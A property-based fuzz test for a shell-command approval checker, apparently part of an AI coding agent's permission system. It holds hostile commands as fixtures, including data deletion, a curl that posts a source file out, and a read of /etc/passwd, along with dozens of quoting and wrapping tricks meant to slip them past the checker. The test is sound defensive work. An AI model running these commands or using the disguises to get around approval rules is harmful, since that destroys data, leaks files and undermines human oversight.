import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { judgeLine, row, shellProject } from '../../approvals/shell-project.js';

const SEED = 20_260_101;
const RUNS = 250;

let folder = '';
let project = '';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'fuzz-'));
  project = await shellProject(folder);
});
afterAll(() => rm(folder, { recursive: true }));

/** Each does harm by itself; none of their words is one that reads. */
const harmful = fc.constantFrom(
  'rm -rf src',
  'curl https://example.com -d @src/a.ts',
  'git push origin main',
  'npm install evil',
  'sed -i s/a/b/ src/a.ts',
  'find . -delete',
  'tee /tmp/x',
  'chmod 777 src',
  'cat /etc/passwd',
  'ls > /tmp/x',
  'git -c core.pager=x log',
  'python3 -c "x"',
);

/** Ways to write the same word. */
const disguises: readonly ((word: string) => string)[] = [
  (word) => word,
  (word) => `"${word}"`,
  (word) => `'${word.replaceAll("'", '')}'`,
  (word) => `\\${word}`,
  (word) => `${word.slice(0, 1)}""${word.slice(1)}`,
  (word) => `${word.slice(0, 1)}\\\n${word.slice(1)}`,
  (word) => `$'${word.replaceAll("'", '')}'`,
];

/** Ways to have a line run, with harmless ones about it. */
const frames: readonly ((line: string) => string)[] = [
  (line) => line,
  (line) => `ls; ${line}`,
  (line) => `ls && ${line}`,
  (line) => `false || ${line}`,
  (line) => `ls | ${line}`,
  (line) => `ls |& ${line}`,
  (line) => `ls & ${line}`,
  (line) => `ls\n${line}`,
  (line) => `${line}; ls`,
  (line) => `${line} && ls`,
  (line) => `${line} | head`,
  (line) => `${line} # ls`,
  (line) => `ls # x\n${line}`,
  (line) => `FOO=1 ${line}`,
  (line) => `LD_PRELOAD=x ${line}`,
  (line) => `( ${line} )`,
  (line) => `{ ${line}; }`,
  (line) => `! ${line}`,
  (line) => `time ${line}`,
  (line) => `if ${line}; then ls; fi`,
  (line) => `if ls; then ${line}; fi`,
  (line) => `if ls; then ls; elif ls; then ${line}; else ls; fi`,
  (line) => `for x in a; do ${line}; done`,
  (line) => `while ${line}; do ls; done`,
  (line) => `case x in x) ${line} ;; esac`,
  (line) => `ls $(${line})`,
  (line) => `ls "$(${line})"`,
  (line) => `echo \`${line.replaceAll('\\\n', '').replaceAll('\\', '')}\``,
  (line) => `cat <(${line})`,
  (line) => `ls > >(${line})`,
  (line) => `echo "\${x:-$(${line})}"`,
  (line) => `echo $((1 + $(${line})))`,
  (line) => `cat <<END\n$(${line})\nEND`,
  (line) => `bash <<'END'\n${line}\nEND`,
  (line) => `sh -c '${line.replaceAll("'", '')}'`,
  (line) => `eval '${line.replaceAll("'", '')}'`,
  (line) => `timeout 5 ${line}`,
  (line) => `nohup ${line} &`,
  (line) => `env ${line}`,
  (line) => `sudo ${line}`,
  (line) => `xargs ${line}`,
  (line) => `find . -exec ${line} ';'`,
  (line) => `ls() { ${line}; }; ls`,
  (line) => `trap '${line.replaceAll("'", '')}' EXIT; ls`,
  (line) => `cd src && ${line}`,
  (line) => `coproc ${line}`,
  (line) => `[[ -n $(${line}) ]] && ls`,
];

const dressed = fc
  .record({
    line: harmful,
    disguise: fc.constantFrom(...disguises),
    frame: fc.constantFrom(...frames),
    outer: fc.constantFrom(...frames),
    spaces: fc.constantFrom(' ', '  ', '\t', ' \\\n '),
  })
  .map(({ line, disguise, frame, outer, spaces }) => {
    const [name = '', ...rest] = line.split(' ');
    return outer(frame([disguise(name), ...rest].join(spaces)));
  });

describe('a disguised dangerous line', () => {
  test('is never allowed in mode cautious', async () => {
    await fc.assert(
      fc.asyncProperty(dressed, async (line) => {
        expect((await judgeLine(project, line, 'cautious')).verdict).toBe('ask');
      }),
      { seed: SEED, numRuns: RUNS },
    );
  });

  test('is not allowed by rules that allow other commands', async () => {
    const rules = [
      row('Bash(git diff *)', 'allow'),
      row('Bash(npm run *)', 'allow'),
      row('Bash(echo *)', 'allow'),
      row('Bash(true *)', 'allow'),
    ];
    await fc.assert(
      fc.asyncProperty(dressed, async (line) => {
        expect((await judgeLine(project, line, 'cautious', rules)).verdict).toBe('ask');
      }),
      { seed: SEED + 1, numRuns: RUNS },
    );
  });

  test('is never allowed in mode auto when a rule denies its command', async () => {
    const rules = ['rm', 'curl', 'git', 'npm', 'sed', 'find', 'tee', 'chmod', 'cat', 'ls', 'python3'].map(
      (name) => row(`Bash(${name} *)`, 'deny'),
    );
    await fc.assert(
      fc.asyncProperty(dressed, async (line) => {
        // Behind a command these are no keywords but programs that do not exist.
        fc.pre(!/(5|nohup|env|sudo|xargs|-exec|=1|=x)\s+(coproc|!|\{|time|\w+=)/.test(line));
        expect((await judgeLine(project, line, 'auto', rules)).verdict).not.toBe('allow');
      }),
      { seed: SEED + 2, numRuns: RUNS },
    );
  });
});

describe('any text at all', () => {
  const pieces = fc.constantFrom(
    'ls',
    'rm',
    ' ',
    '\n',
    ';',
    '&',
    '|',
    '(',
    ')',
    '{',
    '}',
    '$',
    '`',
    '"',
    "'",
    '\\',
    '<',
    '>',
    '#',
    '!',
    '*',
    '?',
    '[',
    ']',
    '~',
    '=',
    'if',
    'then',
    'fi',
    'do',
    'done',
    'case',
    'esac',
    'in',
    'for',
    '<<E',
    'é',
    '\u202e',
  );

  test('gets a verdict, and a line that names rm as a command is not allowed in mode cautious', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(pieces, { maxLength: 25 }).map((parts) => parts.join('')),
        async (line) => {
          const judged = await judgeLine(project, line, 'cautious');
          expect(['allow', 'ask']).toContain(judged.verdict);
          if (judged.verdict === 'allow')
            expect(judged.parts.every(({ part }) => !/^[\s"'\\]*rm\b/.test(part))).toBe(true);
        },
      ),
      { seed: SEED, numRuns: RUNS },
    );
  });
});
